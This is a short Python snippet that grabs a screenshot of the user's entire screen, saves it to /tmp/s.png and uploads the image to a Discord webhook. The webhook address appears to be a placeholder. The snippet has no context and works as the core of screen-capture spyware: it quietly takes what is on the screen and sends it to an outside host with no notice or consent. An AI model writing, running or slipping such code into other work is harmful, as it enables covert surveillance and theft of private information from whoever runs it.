import requests
from PIL import ImageGrab

ImageGrab.grab().save("/tmp/s.png")
requests.post("https://discord.com/api/webhooks/000/none", files={"file": open("/tmp/s.png", "rb")})
